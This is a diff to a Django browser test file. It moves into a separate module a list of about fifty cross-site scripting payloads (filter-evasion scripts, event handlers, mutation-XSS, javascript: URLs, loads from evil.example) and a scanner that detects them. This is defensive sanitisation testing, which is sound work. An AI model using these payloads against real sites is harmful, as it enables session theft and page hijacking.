@@ -18,90 +18,13 @@ from submissions.models import Author, Letter
 from submissions.workflow import Kind, State
 from tests.articles.word.files import by, deleted, docx, note, p, r, style
 from tests.browser.desk import sign_in
+from tests.browser.hostile import HOSTILE, SCAN
 from tests.conftest import signed_in
 from tests.factories import EN, approve, make_author, make_submission, make_user
 from tests.submissions.offers import whole
 from tests.submissions.proofing import in_days
 
 pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
-HOSTILE = [
-    # Scripts, plain and hidden from a filter that reads but once
-    "<script>alert(1)</script>",
-    "<scr<script>ipt>alert(2)</scr</script>ipt>",
-    "<ScRiPt/x>alert(3)</sCrIpT >",
-    "</title></textarea></style><script>alert(4)</script>",
-    "<script src=//evil.example/5.js></script>",
-    "--><script>alert(6)</script><!--",
-    "]]><script>alert(7)</script>",
-    "\\u003cscript\\u003ealert(8)\\u003c/script\\u003e",
-    "%3Cscript%3Ealert(9)%3C/script%3E",
-    "&lt;script&gt;alert(10)&lt;/script&gt;",
-    "\uff1cscript\uff1ealert(11)\uff1c/script\uff1e",
-    "+ADw-script+AD4-alert(12)+ADw-/script+AD4-",
-    # Handlers of elements that need no click
-    "<img src=x onerror=alert(13)>",
-    "<img/src='x'/onerror='alert(14)'>",
-    '<img src="x` `<script>alert(15)</script>"` `>',
-    "<svg onload=alert(16)>",
-    "<svg><animate onbegin=alert(17) attributeName=x dur=1s>",
-    "<svg><script>alert&#40;18&#41;</script></svg>",
-    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(19)>#x'></svg>",
-    "<body onload=alert(20)><details open ontoggle=alert(20)>",
-    "<video><source onerror=alert(21)></video><audio src=x onerror=alert(21)>",
-    "<input autofocus onfocus=alert(22)><select autofocus onfocus=alert(22)>",
-    "<p style='animation:x' onanimationstart=alert(23)>a",
-    # What changes its meaning when it is read a second time
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
-    "onerror=alert(24)&gt;'>",
-    "<svg></p><style><a id='</style><img src=1 onerror=alert(25)>'>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(26)>'>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(27)>",
-    "<p><![CDATA[<img src=x onerror=alert(28)>]]></p>",
-    "<template><img src=x onerror=alert(29)></template>"
-    "<xmp><p title='</xmp><svg onload=alert(29)>'>",
-    # Addresses
-    "<a href='javascript:alert(30)'>a</a>",
-    "<a href=' &#1;java&#9;script&colon;alert(31)'>a</a>",
-    "<a href='JaVaScRiPt&#58;alert(32)'>a</a>",
-    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgzMyk8L3NjcmlwdD4='>a</a>",
-    "<a href='vbscript:alert(34)'>a</a><a href='//evil.example/34'>a</a>",
-    "<iframe src=javascript:alert(35)></iframe><iframe srcdoc='<script>alert(35)</script>'>",
-    "<object data=javascript:alert(36)><embed src=javascript:alert(36)>",
-    "<base href=https://evil.example/><link rel=stylesheet href=//evil.example/37>",
-    "<meta http-equiv=refresh content='0;url=javascript:alert(38)'>",
-    "<form action=javascript:alert(39)><button>a</button></form>",
-    # Out of an attribute, a script or a template
-    '" onmouseover=alert(40) autofocus onfocus=alert(40) x="',
-    "' onfocus='alert(41)' autofocus tabindex='0",
-    "`><img src=x onerror=alert(42)>",
-    "'-alert(43)-'",
-    '\\";alert(44);//',
-    "</script><script>alert(45)</script>",
-    "{{ 7777|add:1 }}{% csrf_token %}{{constructor.constructor('alert(46)')()}}${alert(46)}",
-    # Looks
-    "<style>@import '//evil.example/47';*{background:url(//evil.example/47)}</style>",
-    "<p style='position:fixed;inset:0;background:url(//evil.example/48)'>a</p>",
-    # Text that misleads or does not end
-    "\u202e\u2066txt.exe\u2069 " + "Z\u0351\u036b\u0343" * 20,
-    "\u200b\ufeff\u00ad" * 20 + "\ue000\ufffd",
-    "W" * 140,
-]
-SCAN = """() => {
-  const wrong = []
-  for (const element of document.querySelectorAll("*")) {
-    for (const { name } of element.attributes) {
-      if (name.startsWith("on")) wrong.push(element.outerHTML.slice(0, 200))
-    }
-    const leads = element.href?.baseVal ?? element.href ?? element.action
-    if (typeof leads === "string" && /^(javascript|data|vbscript):/i.test(leads.trim())) {
-      wrong.push(leads)
-    }
-    if (/evil/.test(element.getAttribute("style") || "")) wrong.push(element.outerHTML)
-  }
-  const kinds = "iframe, object, embed, base, meta[http-equiv], math, .prose svg, .piece-text svg"
-  for (const element of document.querySelectorAll(kinds)) wrong.push(element.outerHTML)
-  return wrong
-}"""
 ALL = "\n".join(HOSTILE)
 # Each as HTML by itself: what a browser takes for a script's text would hide those after it.
 PASTED = "".join(typed.as_html(f"<p>{number}: {words}") for number, words in enumerate(HOSTILE))
